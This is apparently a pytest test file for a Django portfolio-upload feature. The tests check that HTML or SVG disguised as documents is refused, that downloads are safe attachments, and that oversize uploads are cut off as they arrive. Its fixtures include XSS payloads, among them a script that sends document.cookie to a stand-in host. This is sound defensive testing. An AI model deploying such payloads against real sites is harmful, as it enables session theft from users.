"""Uploads and downloads of portfolio files: a web page or drawing named as a document is
refused, a file's name ends as its content is, downloads are attachments that the browser
must not sniff or cache, and a file larger than the rubric allows is cut off while it arrives,
leaving nothing stored."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.files.uploadhandler import FileUploadHandler
from django.test import Client, override_settings
from django.urls import reverse

from kaskad.assessment.models import PortfolioFile
from kaskad.assessment.portfolios.services import FileRefused, portfolio_file_add
from kaskad.assessment.tests.portfolio_helpers import TEXT, participant_case
from kaskad.assessment.tests.publishing.test_publishing_views import file_url, published
from kaskad.delivery.tests.factories import make_teacher, teacher_user

pytestmark = pytest.mark.django_db

HTML = b"<!DOCTYPE html><html><body><script>fetch('https://x.example/?c='+document.cookie)"
HTML += b"</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><text>Lesson</text></svg>'
HIDDEN = b"My lesson plan for grade 5.\n\n<script>location='https://x.example/'</script>\n"


def login(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


def media_files() -> set[Path]:
    root = Path(settings.MEDIA_ROOT)
    return {p for p in root.rglob("*") if p.is_file()} if root.exists() else set()


def messages_after(client: Client, response: Any) -> list[str]:
    assert response.status_code == 302
    page = client.get(response["Location"])
    return [str(m) for m in page.context["messages"]]


# --- Markup named as a document ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data"),
    [("plan.pdf", HTML), ("plan.txt", HTML), ("drawing.txt", SVG), ("notes.txt", HIDDEN)],
    ids=["html-as-pdf", "html-as-txt", "svg-as-txt", "script-in-text"],
)
def test_markup_named_as_a_document_is_refused(name: str, data: bytes) -> None:
    case = participant_case()
    before = media_files()
    with pytest.raises(FileRefused) as caught:
        portfolio_file_add(
            portfolio=case.portfolio, upload=SimpleUploadedFile(name, data), by=case.user
        )
    assert caught.value.code == "file_markup"
    assert f"“{name}” is a web page or a drawing" in str(caught.value.message)
    assert not PortfolioFile.objects.exists() and media_files() == before


def test_markup_is_refused_on_the_page_and_in_the_api_with_the_file_named() -> None:
    case = participant_case()
    client = login(case.user)
    response = client.post(
        reverse("assessment:portfolio_upload", args=[case.portfolio.pk]),
        {"files": SimpleUploadedFile("plan.pdf", HTML)},
    )
    assert any("“plan.pdf” is a web page" in m for m in messages_after(client, response))
    answer = client.post(
        f"/api/assessment/portfolios/{case.portfolio.pk}/files",
        {"file": SimpleUploadedFile("plan.txt", SVG)},
        HTTP_ACCEPT_LANGUAGE="ru",
    )
    assert answer.status_code == 422
    error = answer.json()["error"]
    assert error["code"] == "file_markup" and "plan.txt" in error["message"]
    assert not PortfolioFile.objects.exists()


def test_a_name_ends_as_the_content_is() -> None:
    case = participant_case()
    record = portfolio_file_add(
        portfolio=case.portfolio,
        upload=SimpleUploadedFile("plan.pdf", TEXT.encode()),
        by=case.user,
    )
    assert record.kind == "txt" and record.original_name == "plan.txt"
    assert str(record.stored.name).endswith(".txt")
    response = login(case.user).get(
        reverse("assessment:portfolio_file", args=[case.portfolio.pk, record.pk])
    )
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert 'filename="plan.txt"' in response["Content-Disposition"]


# --- Downloads --------------------------------------------------------------------------------


def assert_safe_download(response: Any) -> None:
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Cache-Control"] == "no-store, private"


def test_the_participant_s_download_is_a_safe_attachment() -> None:
    case = participant_case()
    record = portfolio_file_add(
        portfolio=case.portfolio, upload=SimpleUploadedFile("plan.txt", TEXT.encode()), by=case.user
    )
    assert_safe_download(
        login(case.user).get(
            reverse("assessment:portfolio_file", args=[case.portfolio.pk, record.pk])
        )
    )


def test_a_published_material_s_download_is_a_safe_attachment() -> None:
    material = published(text="The lesson plan text.")
    client = login(teacher_user(make_teacher()))
    assert_safe_download(client.get(file_url(material)))
    file_pk = PortfolioFile.objects.get(portfolio=material).pk
    api = client.get(f"/api/assessment/materials/{material.pk}/files/{file_pk}")
    assert_safe_download(api)


# --- Too large: cut off while it arrives ------------------------------------------------------


class RecordingHandler(FileUploadHandler):
    """Sits after the limit: records how many bytes of each file got past it."""

    seen: dict[str, int] = {}

    def new_file(self, *args: Any, **kwargs: Any) -> None:
        super().new_file(*args, **kwargs)
        RecordingHandler.seen[str(self.file_name)] = 0

    def receive_data_chunk(self, raw_data: bytes, start: int) -> bytes:
        RecordingHandler.seen[str(self.file_name)] += len(raw_data)
        return raw_data

    def file_complete(self, file_size: int) -> None:
        return None


def handlers_with_recorder() -> list[str]:
    handlers = list(settings.FILE_UPLOAD_HANDLERS)
    storing = [h for h in handlers if h.startswith("django.core.files.uploadhandler.")]
    limiting = [h for h in handlers if h not in storing]
    return [*limiting, f"{__name__}.RecordingHandler", *storing]


MB = 1024 * 1024


def test_an_oversize_file_is_cut_off_on_the_page_and_the_others_are_kept() -> None:
    case = participant_case(max_file_mb=1)
    client = login(case.user)
    before = media_files()
    RecordingHandler.seen = {}
    big = b"Lesson plan line for the big file.\n" * (3 * MB // 35)  # about 3 MB of text
    with override_settings(FILE_UPLOAD_HANDLERS=handlers_with_recorder()):
        response = client.post(
            reverse("assessment:portfolio_upload", args=[case.portfolio.pk]),
            {
                "files": [
                    SimpleUploadedFile("big.txt", big),
                    SimpleUploadedFile("small.txt", TEXT.encode()),
                ]
            },
        )
    shown = messages_after(client, response)
    assert any(
        "“big.txt” is larger than 1 MB, the largest file allowed, so it was not uploaded" in m
        for m in shown
    ), shown
    # Nothing past the limit reached the handlers that store a file.
    assert RecordingHandler.seen["big.txt"] <= MB
    assert [f.original_name for f in PortfolioFile.objects.all()] == ["small.txt"]
    assert len(media_files() - before) == 1


def test_an_oversize_file_is_cut_off_in_the_api() -> None:
    case = participant_case(max_file_mb=1)
    client = login(case.user)
    before = media_files()
    RecordingHandler.seen = {}
    with override_settings(FILE_UPLOAD_HANDLERS=handlers_with_recorder()):
        answer = client.post(
            f"/api/assessment/portfolios/{case.portfolio.pk}/files",
            {"file": SimpleUploadedFile("big.txt", b"a" * (2 * MB))},
        )
    assert answer.status_code == 422
    error = answer.json()["error"]
    assert error["code"] == "file_too_large" and "“big.txt” is larger than 1 MB" in error["message"]
    assert RecordingHandler.seen["big.txt"] <= MB
    assert not PortfolioFile.objects.exists() and media_files() == before


def test_an_upload_to_a_portfolio_out_of_scope_is_404_whatever_its_size() -> None:
    case = participant_case()
    stranger = login(teacher_user(make_teacher()))
    for size in (10, 3 * MB):
        response = stranger.post(
            reverse("assessment:portfolio_upload", args=[case.portfolio.pk]),
            {"files": SimpleUploadedFile("x.txt", b"a" * size)},
        )
        assert response.status_code == 404
    assert not PortfolioFile.objects.exists()
